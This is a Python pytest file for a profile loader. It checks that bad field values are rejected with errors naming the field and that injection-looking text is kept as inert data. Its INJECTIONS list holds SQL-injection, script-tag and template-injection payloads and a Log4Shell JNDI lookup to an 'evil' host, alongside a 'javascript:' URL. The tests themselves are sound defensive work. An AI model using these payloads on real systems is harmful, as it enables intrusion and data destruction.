"""Every kind of bad value in a profile is rejected with an error naming the field."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from indexer.errors import InvalidInputError
from indexer.loading import read_profiles
from tests.factories import NOW, profile_dict

pytestmark = pytest.mark.unit


def _problems(tmp_path: Path, record: dict[str, Any]) -> list[tuple[int | None, str, str]]:
    path = tmp_path / "one.jsonl"
    path.write_text(json.dumps(record) + "\n", encoding="utf-8")
    with pytest.raises(InvalidInputError) as info:
        read_profiles(path)
    return [(p.row, p.field, p.message) for p in info.value.problems]


BAD_VALUES: list[tuple[str, dict[str, Any], str]] = [
    ("wrong type number", {"daily_rate": "a lot"}, "daily_rate"),
    ("wrong type list", {"skills": "Python"}, "skills"),
    ("wrong type bool", {"has_photo": "maybe"}, "has_photo"),
    ("nested wrong type", {"skills": [{"name": "Python", "years": "five"}]}, "skills.0.years"),
    ("unknown field", {"favourite_colour": "blue"}, "favourite_colour"),
    ("unknown nested field", {"coordinates": {"lat": 1, "lon": 2, "alt": 3}}, "coordinates.alt"),
    ("naive datetime", {"created_at": "2024-01-01T10:00:00"}, "created_at"),
    ("bad enum", {"remote": "sometimes"}, "remote"),
    ("bad language level", {"languages": [{"code": "en", "level": "superb"}]}, "languages.0.level"),
    ("lowercase country", {"country": "de"}, "country"),
    ("three-letter country", {"country": "DEU"}, "country"),
    ("bad currency", {"currency": "euro"}, "currency"),
    ("negative rate", {"daily_rate": -1}, "daily_rate"),
    ("latitude out of range", {"coordinates": {"lat": 95, "lon": 0}}, "coordinates.lat"),
    ("rating out of range", {"reviews": {"count": 3, "mean_rating": 7}}, "reviews.mean_rating"),
    ("years out of range", {"years_experience": 99}, "years_experience"),
    ("duplicate skill", {"skills": [{"name": "Python"}, {"name": " python "}]}, "skills"),
    (
        "duplicate language",
        {"languages": [{"code": "en", "level": "fluent"}, {"code": "en", "level": "basic"}]},
        "languages",
    ),
    (
        "sanction ends before it starts",
        {
            "sanctions": [
                {"kind": "warning", "start": "2026-05-01T00:00:00Z", "end": "2026-04-01T00:00:00Z"}
            ]
        },
        "sanctions.0",
    ),
    ("bad id", {"id": "has space"}, "id"),
    ("missing name", {"name": None}, "name"),
    ("huge description", {"description": "x" * 20_001}, "description"),
    (
        "bad portfolio url",
        {"portfolio": [{"title": "t", "url": "javascript:alert(1)"}]},
        "portfolio.0.url",
    ),
]


@pytest.mark.parametrize(("case", "overrides", "field"), BAD_VALUES, ids=[c[0] for c in BAD_VALUES])
def test_bad_value_is_named(
    tmp_path: Path, case: str, overrides: dict[str, Any], field: str
) -> None:
    problems = _problems(tmp_path, profile_dict("p1", **overrides))
    assert [(row, f) for row, f, _ in problems] == [(1, field)], problems
    assert all(msg for _, _, msg in problems)


def test_missing_required_field_is_named(tmp_path: Path) -> None:
    record = profile_dict("p1")
    del record["last_login_at"]
    assert _problems(tmp_path, record) == [(1, "last_login_at", "required field is missing")]


def test_login_before_creation_is_a_record_problem(tmp_path: Path) -> None:
    record = profile_dict("p1", last_login_at=(NOW.replace(year=2020)).isoformat())
    [(row, field, msg)] = _problems(tmp_path, record)
    assert (row, field) == (1, "<profile>")
    assert "last_login_at is before created_at" in msg


def test_unknown_field_message_says_unknown(tmp_path: Path) -> None:
    [(_, _, msg)] = _problems(tmp_path, profile_dict("p1", salary=1))
    assert "unknown field" in msg


def test_offending_value_is_quoted_but_shortened(tmp_path: Path) -> None:
    [(_, _, msg)] = _problems(tmp_path, profile_dict("p1", daily_rate="9" * 5000 + "x"))
    assert "got '999" in msg
    assert len(msg) < 300


INJECTIONS = [
    "'; DROP TABLE profiles; --",
    "<script>alert('x')</script>",
    "{{7*7}} ${jndi:ldap://evil/a}",
    '{"query": {"match_all": {}}}',
    "Robert\u0000Tables",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_looking_strings_stay_data(tmp_path: Path, text: str) -> None:
    path = tmp_path / "inj.jsonl"
    record = profile_dict(
        "p1", headline=text[:200], description=text, skills=[{"name": text[:200]}]
    )
    path.write_text(json.dumps(record) + "\n", encoding="utf-8")
    [profile] = read_profiles(path)
    assert profile.description == text.strip()
    assert profile.skills[0].name == text[:200].strip()
